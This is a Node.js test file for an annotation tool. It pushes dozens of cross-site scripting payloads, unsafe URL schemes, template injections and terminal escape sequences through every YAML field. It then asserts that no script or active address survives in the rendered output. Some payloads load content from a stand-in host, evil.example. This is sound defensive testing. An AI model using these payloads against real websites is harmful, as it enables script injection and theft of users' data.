// Whatever stands in the YAML, no script, no event attribute and no address that acts reaches the page.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { after, before, describe, test } from "node:test";
import { acting } from "./acting.js";
import { bulk, bulk_article } from "./bulk.js";
import { Folder } from "./page.js";
import { addresses, payloads as made } from "./payloads.js";

const payloads = [
  "<script>steal()</script>",
  "\"><script>steal()</script>",
  "'><script>steal()</script>",
  "</p></div></li></ol></section><script>steal()</script>",
  "</script><script>steal()</script>",
  "</title></style></textarea></noscript><script>steal()</script>",
  "--><script>steal()</script><!--",
  "]]><script>steal()</script><![CDATA[",
  "<!--><script>steal()</script>-->",
  "<scr<script>ipt>steal()</script>",
  "<SCRIPT/src=//evil.example/x>",
  "<script\n>steal()</script\n>",
  "<img src=x onerror=steal()>",
  "<svg/onload=steal()>",
  "<svg><script>steal()</script></svg>",
  "<math><mi//xlink:href=\"data:x,<script>steal()</script>\">",
  "<iframe srcdoc=\"<script>steal()</script>\">",
  "<a href=javascript:steal()>x</a>",
  "<form action=javascript:steal()><button>x</button></form>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=javascript:steal()>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{background:url(//evil.example)}</style>",
  "<template><script>steal()</script></template>",
  "<plaintext>",
  "<textarea>",
  "<?php steal() ?>",
  "\" onmouseover=\"steal()\" x=\"",
  "' onmouseover='steal()' x='",
  "x onfocus=steal() autofocus=",
  "` onerror=steal() `",
  "[x](javascript:steal())",
  "[x](JaVaScRiPt:steal())",
  "[x](&#106;avascript:steal())",
  "[x](java&Tab;script:steal())",
  "[x](<java\tscript:steal()>)",
  "[x](vbscript:steal())",
  "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
  "[x](https://a.example \"\\\" onclick=\\\"steal()\")",
  "[x](https://a.example/\"onclick=\"steal())",
  "![x](javascript:steal())",
  "![x\" onerror=\"steal()](https://a.example/x.png)",
  "[x]\n\n[x]: javascript:steal()",
  "[x][y]\n\n[y]: <data:text/html,x>",
  "](https://a.example/<script>steal()</script>)",
  "](https://a.example/`x) `<script>steal()</script>`",
  "](<https://a.example/`x>) `<script>steal()</script>`",
  "](https://a.example/[x](javascript:steal())",
  "<javascript:steal()>",
  "<data:text/html,<script>steal()</script>>",
  "javascript:steal()",
  "&lt;script&gt;steal()&lt;/script&gt;",
  "&#60;script&#62;steal()&#60;/script&#62;",
  "\\<script>steal()\\</script>",
  "\\\\<script>steal()</script>",
  "`<script>steal()</script>",
  "```\n<script>steal()</script>",
  "    <script>steal()</script>\n\n<script>steal()</script>",
  "> <script>steal()</script>",
  "| a |\n|---|\n| <script>steal()</script> |",
  "x\n\n<div>\n<script>steal()</script>\n</div>",
  "x {onclick=\"steal()\"}",
  "x\n{: onclick=\"steal()\"}",
  "[x](https://a.example){onclick=\"steal()\"}",
  "`<script>steal()</script>`{=html}",
  "[^fn-w]: <script>steal()</script>",
  "x[^cost] and [^1]\n\n[^1]: y",
  "{{ constructor.constructor('steal()')() }}",
  "{% raw %}<script>steal()</script>{% endraw %}",
  "{{< rawhtml >}}<script>steal()</script>{{< /rawhtml >}}",
  "${steal()}",
  "\u2028<script>steal()</script>\u2029",
  "\u202E<script>steal()</script>",
  "\uFEFF<script>steal()</script>",
  "\u{E003C}script\u{E003E}steal()",
  "＜script＞steal()＜/script＞",
  "ſcript <ſcript>steal()</ſcript>",
];

// Every field that an author can fill with a text.
function annotations(text) {
  const name = { literal: text };
  return JSON.stringify({
    obelus: 1,
    references: [
      { id: "w", type: text, title: text, "container-title": text, publisher: text, author: [name, { given: text, family: text }],
        editor: [name], volume: text, issue: text, page: text, edition: text, DOI: text, issued: 2024, accessed: 2025,
        URL: "https://a.example/", archive_location: "https://b.example/", [`x-${text}`]: text, note: text },
      { id: "v", title: text, issued: 2025 },
    ],
    people: { mayer: { name: text, also: ["Anna Mayer", text], bio: text, "as-of": 2025, sources: ["w"] } },
    annotations: [
      { id: "cost", match: "$5 million", sources: ["w"], note: text },
      { id: "date", match: "in May", note: text },
      { id: "gone", match: text, note: text },
      { id: "where", target: { selector: { exact: "a year", prefix: text } }, note: text },
      { id: "claim", match: "six ships",
        disputed: { checked: "2025-02", positions: [{ by: text, says: text, sources: ["w"] }, { by: text, value: "6 ships", says: text }] } },
      { match: "Anna Mayer", bio: "mayer" },
    ],
    waive: [{ match: "a year", reason: text }],
  });
}

const words = "It cost $5 million in May, says Anna Mayer, for six ships and a year.";
const articles = {
  "a.md": `# Ships\n\n${words}\n`,
  "a.html": `<!DOCTYPE html>\n<html lang="en"><head><title>Ships</title></head><body><article><h1>Ships</h1><p>${words}</p></article></body></html>\n`,
};

const ways = {
  "Markdown to HTML": ["a.md", "--to", "html"],
  "a page of its own": ["a.md", "--standalone"],
  "declarative cards": ["a.md", "--standalone", "--cards", "declarative"],
  "HTML to HTML": ["a.html"],
  "JSON-LD": ["a.html", "--config", "json-ld.yaml"],
};

const all = [...payloads, ...made];

// By cmark-gfm itself: obelus would take its own footnotes out first.
function rendered(markdown) {
  const extensions = ["footnotes", "table", "strikethrough", "autolink", "tasklist"].flatMap((name) => ["-e", name]);
  const ran = spawnSync(process.env.CMARK_GFM_TOOL, ["--unsafe", ...extensions], { input: markdown, maxBuffer: 1 << 28, encoding: "utf8" });
  assert.equal(ran.status, 0);
  return ran.stdout;
}

describe("nothing in the YAML acts on the page", () => {
  let folder;
  before(() => {
    folder = new Folder();
    for (const [name, content] of Object.entries(articles)) folder.write(name, content);
    folder.write("json-ld.yaml", "output: {json_ld: true}\n");
  });
  after(() => folder.remove());

  // Runs a way with a text in every field.
  function annotated(words, text) {
    folder.write("a.obelus.yaml", annotations(text));
    const ran = folder.run("annotate", ...words);
    assert.equal(ran.status, 0, `${text}\n${ran.err}`);
    assert.ok(ran.out.includes("cost"), ran.out);
    return ran.out;
  }

  test("the test sees what acts", () => {
    for (const html of ["<script>x</script>", "<p onclick=x>", "<a href='java\tscript:x'>", "<svg>", "<a href=//evil.example>", "<p style=x>"])
      assert.equal(acting(html).length, 1, html);
    assert.deepEqual(acting(articles["a.html"]), []);
  });

  test("each by itself, Markdown to HTML", () => {
    const found = payloads.map((text) => [text, acting(annotated(ways["Markdown to HTML"], text))]).filter(([, acts]) => acts.length > 0);
    assert.deepEqual(found, []);
  });

  test("addresses are refused, and shown escaped", () => {
    const addresses = ["javascript:steal()", "JAVASCRIPT:steal()", " javascript:steal()", "java\tscript:steal()", "java\nscript:steal()",
      "\u0001javascript:steal()", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "blob:x", "https://u:p@a.example", "https://a.example/\" onclick=\"x",
      "https://a.example/<script>", "//evil.example\\@a.example", "https:\\\\a.example", "javascript&colon;steal()", "javascript%3Asteal()"];
    for (const field of ["URL", "archive_location"])
      for (const address of addresses) {
        folder.write("a.obelus.yaml", JSON.stringify({ obelus: 1, references: [{ id: "w", title: "T", [field]: address }],
          annotations: [{ match: "in May", sources: ["w"] }] }));
        const ran = folder.run("annotate", "a.md", "--standalone");
        if (ran.status === 0) assert.deepEqual(acting(ran.out), [], address);
        else assert.match(ran.err, /^a\.obelus\.yaml:1:\d+: error: .*\[OB(305|901|904) /, address);
      }
  });

  for (const [name, words] of Object.entries(ways))
    test(`${all.length} texts in every field, ${name}`, () => {
      folder.write(words[0], bulk_article(words[0], all));
      folder.write("a.obelus.yaml", bulk(all));
      const ran = folder.run("annotate", ...words);
      assert.equal(ran.status, 0, ran.err.slice(0, 2000));
      assert.ok(ran.out.split("steal").length > all.length);
      assert.deepEqual(acting(ran.out), []);
    });

  test(`${all.length} texts in every field, to Markdown, rendered with raw HTML on`, () => {
    folder.write("a.md", bulk_article("a.md", all));
    folder.write("a.obelus.yaml", bulk(all));
    const ran = folder.run("annotate", "a.md", "--to", "markdown");
    assert.equal(ran.status, 0, ran.err.slice(0, 2000));
    const page = rendered(ran.out);
    assert.ok(page.split("steal").length > all.length);
    assert.deepEqual(acting(page), []);
  });

  test("addresses in disguise are refused, or lead where they say", () => {
    const write = (urls) => folder.write("a.obelus.yaml", [JSON.stringify({ obelus: 1 }).slice(0, -1), ',"references": [',
      urls.map((URL, i) => JSON.stringify({ id: `r${i}`, title: "T", URL })).join(",\n"), '], "annotations": [',
      urls.map((_, i) => JSON.stringify({ match: `passage ${i} here`, sources: [`r${i}`] })).join(","), "]}"].join("\n"));
    folder.write("a.md", bulk_article("a.md", addresses));
    write(addresses);
    const refused = folder.run("annotate", "a.md", "--standalone");
    assert.equal(refused.status, 2);
    const lines = new Set([...refused.err.matchAll(/^a\.obelus\.yaml:(\d+):\d+: error: .*\[OB(305|904) /gm)].map(([, line]) => Number(line)));
    const kept = addresses.filter((_, i) => !lines.has(i + 3));
    assert.ok(lines.size > 100 && kept.every((url) => !/^[\s\u2028\ufeff]*(javascript|data|vbscript):/i.test(url)), kept.join("\n"));
    write(kept);
    const ran = folder.run("annotate", "a.md", "--standalone");
    assert.equal(ran.status, 0, ran.err.slice(0, 2000));
    assert.deepEqual(acting(ran.out), []);
  });

  test("what a terminal would act on is shown", () => {
    for (const text of ["\u001b]0;x\u0007", "\u009b31m", "\u202Ex", "a\r\nerror: fake"]) {
      folder.write("a.obelus.yaml", JSON.stringify({ obelus: 1, annotations: [{ id: "gone", match: `x ${text} y`, note: "N." }] }));
      const ran = folder.run("annotate", "a.md");
      assert.doesNotMatch(ran.err.replaceAll("\n", ""), /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/, JSON.stringify(ran.err));
      assert.doesNotMatch(ran.err, /^error: fake/m);
    }
  });
});
